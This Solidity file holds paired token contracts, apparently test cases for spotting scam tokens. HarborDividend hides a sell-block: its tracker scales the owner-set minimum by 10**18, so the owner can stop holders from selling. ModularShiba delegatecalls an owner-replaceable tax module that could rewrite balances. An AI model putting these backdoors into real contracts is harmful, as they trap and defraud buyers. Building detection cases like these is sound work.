// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

interface IX05Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IX05Router {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

interface IX05Tracker {
    function bind() external;
    function setBalance(address account, uint256 newBalance) external;
    function minimumTokenBalance() external view returns (uint256);
}

abstract contract X05Tracker is Ownable {
    address public token;
    uint256 public minimumTokenBalance;
    uint256 public eligibleHolders;
    uint256 public eligibleTotal;
    mapping(address => uint256) public trackedBalance;

    event MinimumTokenBalanceUpdated(uint256 minimum);
    event Bound(address indexed token);

    error AlreadyBound();
    error OnlyToken();
    error MinimumTooHigh();

    constructor() Ownable(msg.sender) {}

    function bind() external {
        if (token != address(0)) revert AlreadyBound();
        token = msg.sender;
        emit Bound(msg.sender);
    }

    function setBalance(address account, uint256 newBalance) external {
        if (msg.sender != token) revert OnlyToken();
        uint256 old = trackedBalance[account];
        uint256 next = newBalance >= minimumTokenBalance ? newBalance : 0;
        if (old == 0 && next > 0) eligibleHolders++;
        if (old > 0 && next == 0) eligibleHolders--;
        eligibleTotal = eligibleTotal - old + next;
        trackedBalance[account] = next;
    }

    function updateMinimumTokenBalance(uint256 newMinimum) external virtual;
}

contract HarborDividendTracker is X05Tracker {
    uint256 public constant MAX_MINIMUM = 1_000 * 10 ** 18;

    function updateMinimumTokenBalance(uint256 newMinimum) external override onlyOwner {
        if (newMinimum > MAX_MINIMUM) revert MinimumTooHigh();
        minimumTokenBalance = newMinimum * 10 ** 18;
        emit MinimumTokenBalanceUpdated(minimumTokenBalance);
    }
}

contract MarinaDividendTracker is X05Tracker {
    uint256 public constant MAX_MINIMUM = 1_000 * 10 ** 18;

    function updateMinimumTokenBalance(uint256 newMinimum) external override onlyOwner {
        if (newMinimum > MAX_MINIMUM) revert MinimumTooHigh();
        minimumTokenBalance = newMinimum;
        emit MinimumTokenBalanceUpdated(minimumTokenBalance);
    }
}

abstract contract X05Tracked is ERC20 {
    IX05Tracker public immutable dividendTracker;
    address public immutable uniswapV2Pair;
    address public immutable deployer;

    constructor(address tracker) {
        dividendTracker = IX05Tracker(tracker);
        dividendTracker.bind();
        IX05Router router = IX05Router(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        uniswapV2Pair = IX05Factory(router.factory()).createPair(address(this), router.WETH());
        deployer = msg.sender;
        _mint(msg.sender, 88_000_000 ether);
    }

    function _update(address from, address to, uint256 value) internal virtual override {
        super._update(from, to, value);
        if (from != address(0) && from != uniswapV2Pair) dividendTracker.setBalance(from, balanceOf(from));
        if (to != address(0) && to != uniswapV2Pair) dividendTracker.setBalance(to, balanceOf(to));
    }
}

contract HarborDividend is X05Tracked {
    error BelowMinimumHolding(uint256 left, uint256 minimum);

    constructor(address tracker) ERC20("Harbor Dividend", "HARDIV") X05Tracked(tracker) {}

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (to == uniswapV2Pair && from != deployer) {
            uint256 minimum = dividendTracker.minimumTokenBalance();
            if (balanceOf(from) < minimum) revert BelowMinimumHolding(balanceOf(from), minimum);
        }
    }
}

contract MarinaDividend is X05Tracked {
    event BelowMinimumHolding(address indexed account, uint256 left, uint256 minimum);

    constructor(address tracker) ERC20("Marina Dividend", "MARDIV") X05Tracked(tracker) {}

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (to == uniswapV2Pair && from != deployer) {
            uint256 minimum = dividendTracker.minimumTokenBalance();
            if (balanceOf(from) < minimum) emit BelowMinimumHolding(from, balanceOf(from), minimum);
        }
    }
}

interface IX05TaxModule {
    function computeTax(bool buying, uint256 value) external returns (uint256);
}

contract FlatTaxModule {
    function computeTax(bool buying, uint256 value) external pure returns (uint256) {
        return (value * (buying ? 100 : 200)) / 10_000;
    }
}

contract TaxModuleRegistry is Ownable {
    uint256 public constant NOTICE = 2 days;

    address public module;
    address public nextModule;
    uint256 public nextAt;

    event ModuleProposed(address indexed module, uint256 at);
    event ModuleAccepted(address indexed module);

    error NothingProposed();
    error TooEarly();

    constructor() Ownable(msg.sender) {
        module = address(new FlatTaxModule());
    }

    function proposeModule(address module_) external onlyOwner {
        nextModule = module_;
        nextAt = block.timestamp + NOTICE;
        emit ModuleProposed(module_, nextAt);
    }

    function acceptModule() external onlyOwner {
        if (nextModule == address(0)) revert NothingProposed();
        if (block.timestamp < nextAt) revert TooEarly();
        module = nextModule;
        nextModule = address(0);
        emit ModuleAccepted(module);
    }
}

contract ModularShiba is ERC20 {
    TaxModuleRegistry public immutable registry;
    address public immutable uniswapV2Pair;
    address public immutable treasury;

    error TaxModuleFailed();

    constructor(address registry_) ERC20("Modular Shiba", "MODSHIB") {
        registry = TaxModuleRegistry(registry_);
        IX05Router router = IX05Router(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        uniswapV2Pair = IX05Factory(router.factory()).createPair(address(this), router.WETH());
        treasury = msg.sender;
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function _update(address from, address to, uint256 value) internal override {
        bool buying = from == uniswapV2Pair;
        if ((buying || to == uniswapV2Pair) && from != treasury && to != treasury) {
            (bool ok, bytes memory answer) = registry.module().delegatecall(
                abi.encodeCall(IX05TaxModule.computeTax, (buying, value))
            );
            if (!ok || answer.length != 32) revert TaxModuleFailed();
            uint256 tax = abi.decode(answer, (uint256));
            if (tax > value / 20) tax = value / 20;
            super._update(from, treasury, tax);
            value -= tax;
        }
        super._update(from, to, value);
    }
}
